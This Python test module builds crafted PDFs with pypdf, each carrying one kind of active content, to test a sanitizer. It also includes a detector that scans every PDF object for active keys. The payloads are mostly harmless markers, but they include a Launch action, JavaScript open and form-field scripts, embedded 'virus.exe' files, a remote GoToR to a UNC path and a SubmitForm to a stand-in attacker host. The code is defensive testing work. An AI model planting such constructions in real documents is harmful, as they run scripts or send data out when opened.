"""Bilag with active content, one kind each, built with pypdf the way an attacker would, and a walk over every
object of a PDF that finds whatever active content is left (meetings/activecontent.py strips it)."""

from io import BytesIO

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

from tests.meetings.pdftext import sample_pdf

SCRIPT = "app.alert('MARKOER-SCRIPT')"
PAGE_TEXT = "Et bilag med aktivt indhold"


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    return DictionaryObject({_name(f"/{key}"): value for key, value in entries.items()})


def javascript() -> DictionaryObject:
    return _dict(Type=_name("/Action"), S=_name("/JavaScript"), JS=TextStringObject(SCRIPT))


class Crafted:
    """A real one-page PDF opened for changes: ``writer``, its ``page``, helpers to add an annotation."""

    def __init__(self):
        self.writer = PdfWriter(clone_from=BytesIO(sample_pdf(PAGE_TEXT)))
        self.page = self.writer.pages[0]

    def add(self, obj) -> IndirectObject:
        return self.writer._add_object(obj)

    def annotate(self, annotation: DictionaryObject) -> None:
        annotation.update(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(200), FloatObject(80)]),
                _name("/P"): self.page.indirect_reference,
            }
        )
        annots = self.page.get("/Annots")
        if annots is None:
            annots = ArrayObject()
            self.page[_name("/Annots")] = annots
        annots.get_object().append(self.add(annotation))

    def link(self, action: DictionaryObject) -> None:
        self.annotate(_dict(Subtype=_name("/Link"), A=self.add(action)))

    def refer_to_catalog(self) -> None:
        """A stray reference from the page to the document catalog: copying the page must not carry the
        document-level actions and name trees along."""
        self.page[_name("/PieceInfo")] = _dict(KKR=_dict(Private=self.writer._root_object.indirect_reference))

    def bytes(self) -> bytes:
        out = BytesIO()
        self.writer.write(out)
        return out.getvalue()


def page_open_script(pdf: Crafted) -> None:
    pdf.page[_name("/AA")] = _dict(O=pdf.add(javascript()), C=javascript())


def document_open_script(pdf: Crafted) -> None:
    pdf.writer._root_object[_name("/OpenAction")] = pdf.add(javascript())
    pdf.writer._root_object[_name("/AA")] = _dict(WC=javascript())
    pdf.refer_to_catalog()


def javascript_link(pdf: Crafted) -> None:
    pdf.link(javascript())


def javascript_uri(pdf: Crafted) -> None:
    pdf.link(_dict(S=_name("/URI"), URI=TextStringObject(f"javascript:{SCRIPT}")))


def script_after_a_link(pdf: Crafted) -> None:
    """A harmless go-to whose ``/Next`` runs a script."""
    first = pdf.page.indirect_reference
    pdf.link(_dict(S=_name("/GoTo"), D=ArrayObject([first, _name("/Fit")]), Next=javascript()))


def launch(pdf: Crafted) -> None:
    pdf.link(
        _dict(S=_name("/Launch"), F=TextStringObject("C:\\Windows\\System32\\calc.exe"), NewWindow=BooleanObject(True))
    )


def remote_go_to(pdf: Crafted) -> None:
    pdf.link(_dict(S=_name("/GoToR"), F=TextStringObject("\\\\angriber.example\\del\\x.pdf")))


def submit_form(pdf: Crafted) -> None:
    target = _dict(FS=_name("/URL"), F=TextStringObject("https://angriber.example/indsamling"))
    pdf.link(_dict(S=_name("/SubmitForm"), F=target))


def import_data(pdf: Crafted) -> None:
    pdf.link(_dict(S=_name("/ImportData"), F=TextStringObject("data.fdf")))


def embedded_file(pdf: Crafted) -> None:
    """A file attachment annotation on the page and a file in the document's /EmbeddedFiles tree."""
    stream = DecodedStreamObject()
    stream.set_data(b"MZ MARKOER-FIL")
    stream[_name("/Type")] = _name("/EmbeddedFile")
    spec = _dict(Type=_name("/Filespec"), F=TextStringObject("virus.exe"), EF=_dict(F=pdf.add(stream)))
    pdf.annotate(_dict(Subtype=_name("/FileAttachment"), FS=pdf.add(spec), Name=_name("/PushPin")))
    pdf.writer.add_attachment("virus2.exe", b"MZ MARKOER-FIL")
    pdf.refer_to_catalog()


def form_field_script(pdf: Crafted) -> None:
    """A text field whose keystroke and format scripts run as it is filled in, in an AcroForm with XFA."""
    field = _dict(
        Subtype=_name("/Widget"),
        FT=_name("/Tx"),
        T=TextStringObject("navn"),
        AA=_dict(K=javascript(), F=javascript()),
    )
    pdf.annotate(field)
    form = _dict(Fields=ArrayObject([pdf.page["/Annots"][-1]]), XFA=TextStringObject(f"<xdp>{SCRIPT}</xdp>"))
    pdf.writer._root_object[_name("/AcroForm")] = pdf.add(form)
    pdf.refer_to_catalog()


def names_javascript(pdf: Crafted) -> None:
    """A document-level script, run when the document opens (the catalog's /Names /JavaScript tree)."""
    tree = _dict(Names=ArrayObject([TextStringObject("kkr"), pdf.add(javascript())]))
    pdf.writer._root_object[_name("/Names")] = pdf.add(_dict(JavaScript=pdf.add(tree)))
    pdf.refer_to_catalog()


def unreferenced_script(pdf: Crafted) -> None:
    """A script object nothing refers to: a reader that repairs a damaged file its own way may still find it."""
    pdf.add(javascript())


KINDS = {
    "page-aa": page_open_script,
    "openaction": document_open_script,
    "javascript-link": javascript_link,
    "javascript-uri": javascript_uri,
    "next-script": script_after_a_link,
    "launch": launch,
    "gotor": remote_go_to,
    "submitform": submit_form,
    "importdata": import_data,
    "embedded-file": embedded_file,
    "form-field-aa": form_field_script,
    "names-javascript": names_javascript,
    "unreferenced-script": unreferenced_script,
}


def crafted_pdf(kind: str) -> bytes:
    pdf = Crafted()
    KINDS[kind](pdf)
    return pdf.bytes()


# --- Finding active content ------------------------------------------------------------------------------

ACTIVE_KEYS = {"/AA", "/OpenAction", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA"}
ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}
ACTIVE_ANNOTATIONS = {"/FileAttachment", "/Screen", "/RichMedia", "/Sound", "/Movie"}


def active_content(pdf: bytes) -> list[str]:
    """Every piece of active content in any object of ``pdf`` (each object in its cross-reference table, used or
    not, and the trailer), as ``"<object number>: <what>"``."""
    reader = PdfReader(BytesIO(pdf))
    numbers = {number for table in reader.xref.values() for number in table} | set(reader.xref_objStm)
    found = []
    _walk(reader.trailer, "trailer", found, set())
    for number in sorted(numbers):
        obj = reader.get_object(number)
        if obj is not None:
            _walk(obj, str(number), found, set())
    return found


def _walk(value, where: str, found: list, seen: set) -> None:
    if isinstance(value, IndirectObject) or id(value) in seen:
        return  # an indirect object is walked on its own
    seen.add(id(value))
    if isinstance(value, DictionaryObject):
        for key in ACTIVE_KEYS & set(value):
            found.append(f"{where}: {key}")
        if value.get("/S") in ACTIVE_ACTIONS:
            found.append(f"{where}: /S {value['/S']}")
        if value.get("/Subtype") in ACTIVE_ANNOTATIONS or value.get("/Type") == "/EmbeddedFile":
            found.append(f"{where}: {value.get('/Subtype') or value['/Type']}")
        uri = value.get("/URI")
        if isinstance(uri, str) and uri.strip().lower().startswith("javascript:"):
            found.append(f"{where}: {uri}")
        for item in value.values():
            _walk(item, where, found, seen)
        if isinstance(value, StreamObject) and b"MARKOER" in value.get_data():
            found.append(f"{where}: a stream with a marker")
    elif isinstance(value, ArrayObject):
        for item in value:
            _walk(item, where, found, seen)
    elif isinstance(value, str | bytes) and "MARKOER" in str(value):
        found.append(f"{where}: {value!r}")
